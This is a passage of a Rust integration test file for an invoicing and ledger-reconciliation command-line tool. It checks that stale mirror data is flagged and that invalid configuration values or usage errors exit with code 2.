    let config = h.write_config("[reconciliation]\nstale_after_hours = 2");
    let now = chrono::Utc::now().timestamp();
    let run = h
        .store
        .begin_run("pull invoices", "", now - 3 * 3600)
        .unwrap();
    h.store
        .finish_run(run, "ok", &RunStats::default(), now - 3 * 3600 + 10)
        .unwrap();
    let args = [
        "--config",
        config.to_str().unwrap(),
        "export",
        "reconciliation",
        "--ledger",
        SAMPLE_LEDGER,
        "--ledger-mapping",
        LEDGER_MAPPING,
        "--format",
        "json",
    ];
    let out = cmd_async(h.dir.path(), &args).await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(text(&out).contains("stale"), "{}", text(&out));
    let first: serde_json::Value = serde_json::from_str(
        String::from_utf8(out.stdout)
            .unwrap()
            .lines()
            .next()
            .unwrap(),
    )
    .unwrap();
    assert_eq!(first["mirror_stale"], true);
    let pulled = chrono::DateTime::from_timestamp(now - 3 * 3600 + 10, 0)
        .unwrap()
        .to_rfc3339_opts(chrono::SecondsFormat::Secs, true);
    assert_eq!(first["mirror_pulled_at"], pulled.as_str());

    // A bad value is a configuration error naming the key.
    let config = h.write_config("[reconciliation]\nstale_after_hours = 0");
    let out = cmd_async(
        h.dir.path(),
        &[
            "--config",
            config.to_str().unwrap(),
            "export",
            "invoices",
            "--outstanding",
        ],
    )
    .await;
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(
        text(&out).contains("reconciliation.stale_after_hours"),
        "{}",
        text(&out)
    );
}

#[test]
fn usage_errors_exit_2() {
    let dir = tempfile::tempdir().unwrap();
    for (args, says) in [
        (&["export", "reconciliation"][..], "--ledger"),
        (
            &[
                "export",
                "reconciliation",
                "--ledger",
                SAMPLE_LEDGER,
                "--format",
                "xlsx",
            ][..],
            "--out",
        ),
        (&["export", "inventory", "--format", "xlsx"][..], "xlsx"),
        (&["export", "orders", "--outstanding"][..], "--outstanding"),
        (
            &[
                "export",
                "invoices",
                "--outstanding",
                "--as-of",
                "30/11/2026",
            ][..],
            "--as-of",
        ),
        (
            &[
                "export",
                "reconciliation",
                "--ledger",
                "nope.csv",
                "--ledger-mapping",
                LEDGER_MAPPING,
            ][..],
            "nope.csv",
        ),
    ] {
        let out = cmd(dir.path(), args);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", text(&out));
        assert!(text(&out).contains(says), "{args:?}: {}", text(&out));
    }
    // A push mapping is not a ledger mapping.
    let out = cmd(
        dir.path(),
        &[
            "export",
            "reconciliation",
            "--ledger",
            SAMPLE_LEDGER,
            "--ledger-mapping",
            concat!(
                env!("CARGO_MANIFEST_DIR"),
                "/mappings/purchase_orders.csv.toml"
            ),
        ],
    );
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(text(&out).contains("ap_ledger"), "{}", text(&out));
}
